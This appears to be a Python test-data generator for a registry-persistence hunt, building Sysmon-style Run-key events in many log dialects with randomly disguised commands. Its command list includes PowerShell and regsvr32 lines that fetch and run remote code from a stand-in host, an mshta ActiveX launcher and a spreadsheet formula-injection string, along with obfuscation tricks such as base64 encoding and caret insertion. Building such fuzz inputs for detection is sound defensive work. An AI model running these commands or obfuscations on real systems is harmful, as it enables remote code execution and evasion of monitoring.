"""Events as an attacker and every exporter could write them: a command, disguised, in any dialect.

Everything is drawn from one `random.Random`, so that a seed names an input.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from random import Random
from typing import Any
from xml.sax.saxutils import escape

Record = dict[str, Any]

RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"
KEYS = (
    rf"HKU\S-1-5-21-1-2-3-1001\{RUN}",
    rf"HKLM\{RUN}Once",
    rf"\REGISTRY\MACHINE\{RUN}",
    rf"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run",  # noqa: F541
    r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon",
    r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters",
)
COMMANDS = (
    r"C:\Users\anna\AppData\Roaming\evil.exe /quiet",
    r'"C:\Program Files\Vendor\app.exe" --minimised',
    r"rundll32.exe C:\Users\Public\a.dll,Start",
    r"powershell -w hidden -c iex(irm http://203.0.113.7/a)",
    r"mshta javascript:close(new ActiveXObject('WScript.Shell').Run('calc'))",
    r"cmd /c start /min wscript //b %TEMP%\a.vbs",
    r"%windir%\system32\SecurityHealthSystray.exe",
    r"regsvr32 /s /i:http://203.0.113.7/x.sct scrobj.dll",
    "",
)
# Pieces that some parser, shell, reader or writer takes for its own.
PIECES = (
    *('"', "'", "`", "^", "%", "%%", "&", "&&", "|", ";", ",", "=", "+", "-", "@", "$", "{", "}", "[", "]", "(", ")"),
    *("\\", "\\\\", "/", "\\..\\", "..", ".", " ", "  ", "\t", "\r", "\n", "\r\n", "\0", "\x1b[31m", "\x0b", "\x85"),
    *("\u00a0", "\u3000", "\u2028", "\u202e", "\u200b", "\ufeff", "\uffff", "\ud83d", "\U0001f511", "\u212a", "\u017f"),
    *(
        "\uff43",
        "\u0430",
        "\u0130",
        "\u00b2",
        "9" * 5_000,
        "[" * 60,
        '{"a":' * 60,
        "%PATH%",
        "%PATH:a=b%",
        "%TEMP:~0,-1%",
    ),
    *(
        "!v!",
        "$env:TEMP",
        "cmd /c ",
        "cmd /v /c set a=1&",
        "start ",
        "forfiles /c ",
        "for %i in (1) do ",
        "-enc ",
        "0x41,",
    ),
    *("&amp;", "&#65;", "&#x110000;", "<!--", "<?xml ", "<Events", "<Data Name='", "</Data>", "<![CDATA[", "<user>"),
    *(
        "Message=",
        "\nDetails: ",
        "\nUser: ",
        "EventCode=13\n",
        "S-1-5-21-1-2-3-4",
        "C:\\Users\\",
        "PROGRA~1",
        "\\\\?\\",
    ),
    *(
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "*",
        "?",
        "#",
        "- ",
        ": ",
        "!!python/object",
        "| delete",
        "```",
        "null",
        "9999-12-31",
    ),
)


def piece(random: Random) -> str:
    """Draw one hostile piece."""
    return random.choice(PIECES)


def mixed(random: Random, most: int = 12) -> str:
    """Draw a text of hostile pieces and plain letters."""
    return "".join(
        piece(random) if random.random() < 0.6 else "abc"[: random.randint(1, 3)]
        for _ in range(random.randint(0, most))
    )


def _inserted(random: Random, text: str) -> str:
    place = random.randint(0, len(text))
    return text[:place] + piece(random) + text[place:]


def _encoded(_random: Random, text: str) -> str:
    return "powershell -enc " + base64.b64encode(text.encode("utf-16-le", "replace")).decode()


def _full_width(random: Random, text: str) -> str:
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" and random.random() < 0.2 else sign for sign in text)


DISGUISES: tuple[Callable[[Random, str], str], ...] = (
    _inserted,
    _encoded,
    _full_width,
    lambda random, text: "^".join(text) if len(text) < 200 else text,
    lambda random, text: f'cmd /c "{text}"',
    lambda random, text: f"conhost --headless {text}",
    lambda random, text: text.replace("\\", "/"),
    lambda random, text: text.replace("\\", f"\\{mixed(random, 2)}\\..\\", 1),
    lambda random, text: text.swapcase(),
    lambda random, text: text + " " * random.choice((1, 300, 4_000)) + mixed(random),
    lambda random, text: text * random.choice((2, 5)),
    lambda random, text: text[: random.randint(0, len(text))],
    lambda random, text: mixed(random) + text,
)


def disguised(random: Random, text: str) -> str:
    """Disguise a command a few times over."""
    for _ in range(random.randint(0, 3)):
        text = random.choice(DISGUISES)(random, text)[:40_000]
    return text


def sysmon_event(random: Random) -> Record:
    """Draw an event under Sysmon's names."""
    name = random.choice(("Updater", "", "(Default)", mixed(random, 5)))
    return {
        "EventCode": random.choice(("13", "13", "13", "12", "14", "11", "1", "\u00b2", piece(random))),
        "EventType": random.choice(("SetValue", "SetValue", "DeleteValue", "RenameKey", mixed(random, 2))),
        "TargetObject": f"{random.choice(KEYS)}\\{name}",
        "Details": disguised(random, random.choice(COMMANDS)),
        "Image": disguised(random, r"C:\Windows\System32\reg.exe")
        if random.random() < 0.2
        else r"C:\Windows\regedit.exe",
        "User": random.choice((r"CORP\anna", mixed(random, 3))),
        "Computer": random.choice(("WS1", mixed(random, 3))),
        "UtcTime": random.choice(("2026-03-02 08:00:00.000", "9999-12-31 23:59:59.999", mixed(random, 2))),
        "ProcessGuid": random.choice(("{51A89197-3BF7-614B-D600-000000000E00}", mixed(random, 2))),
        "ProcessId": random.choice(("4711", piece(random))),
    }


def _as_fields(random: Random, event: Record) -> Record:
    kept = {name: value for name, value in event.items() if random.random() < 0.95}
    name = random.choice(list(event))
    return {**kept, name: [event[name], mixed(random)]} if random.random() < 0.1 else kept


def _as_cim(_random: Random, event: Record) -> Record:
    return {"signature_id": event["EventCode"], "action": "modified", "registry_path": event["TargetObject"],
            "registry_value_data": event["Details"], "process_path": event["Image"], "user": event["User"],
            "dest": event["Computer"]}  # fmt: skip


def _as_xml(random: Random, event: Record) -> Record:
    write = escape if random.random() < 0.7 else str
    data = "".join(f"<Data Name='{name}'>{write(value)}</Data>" for name, value in event.items())
    return {
        "_raw": f"<Event><System><EventID>{event['EventCode']}</EventID></System><EventData>{data}</EventData></Event>"
    }


def _as_json(random: Random, event: Record) -> Record:
    document: Record = {"EventID": 13, "Channel": "Microsoft-Windows-Sysmon/Operational", **event}
    for _ in range(random.choice((0, 0, 1, 2, 200))):
        document = {random.choice(("Event", "EventData", "winlog", "event_data", "result", "x")): document}
    return {"_raw": json.dumps(document)}


def _as_text(_random: Random, event: Record) -> Record:
    lines = "\n".join(f"{name}: {value}" for name, value in event.items())
    return {
        "_raw": f"LogName=Microsoft-Windows-Sysmon/Operational\nEventCode={event['EventCode']}\nMessage=Registry:\n{lines}"
    }


def _as_4657(_random: Random, event: Record) -> Record:
    return {"EventCode": "4657", "Object_Name": event["TargetObject"], "Object_Value_Name": "Updater",
            "New_Value": event["Details"], "Process_Name": event["Image"], "ComputerName": event["Computer"]}  # fmt: skip


def _as_osquery(_random: Random, event: Record) -> Record:
    columns = {"path": event["TargetObject"], "data": event["Details"]}
    return {
        "_raw": json.dumps(
            {"name": "startup", "action": "added", "hostIdentifier": event["Computer"], "columns": columns}
        )
    }


def _as_monitor(_random: Random, event: Record) -> Record:
    return {"registry_type": "SetValue", "key_path": event["TargetObject"], "data": event["Details"],
            "process_image": event["Image"]}  # fmt: skip


def _as_rubbish(random: Random, event: Record) -> Record:
    raw = random.choice((_as_xml, _as_json, _as_text))(random, event)["_raw"]
    return {"_raw": "".join(_inserted(random, raw)[random.randint(0, 30) :] for _ in range(random.randint(1, 2)))}


DIALECTS = (
    _as_fields,
    _as_fields,
    _as_cim,
    _as_xml,
    _as_json,
    _as_text,
    _as_4657,
    _as_osquery,
    _as_monitor,
    _as_rubbish,
)


def record(random: Random) -> Record:
    """Draw one record, as a search or a reader would hand it to the hunt."""
    return random.choice(DIALECTS)(random, sysmon_event(random))
